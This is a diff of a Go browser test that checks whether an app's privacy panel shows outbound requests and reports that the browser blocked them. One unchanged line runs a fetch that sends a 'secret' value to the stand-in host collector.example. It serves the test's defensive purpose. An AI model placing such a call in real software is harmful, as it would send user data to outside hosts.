@@ -89,7 +89,7 @@ func (s *studio) kept(path string, classes []class) {
 func (s *studio) showsWhatLeaves() {
 	s.t.Helper()
 	s.Click("#open-privacy")
-	s.WaitFor(`document.querySelector("#privacy").open && document.querySelector("#privacy .left").innerText.startsWith("Nothing")`)
+	s.WaitFor(`document.querySelector("#privacy[open] .left")?.innerText.startsWith("Nothing")`)
 	s.Run(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
 	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`)
 	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") || !strings.Contains(got, "the browser stopped") {
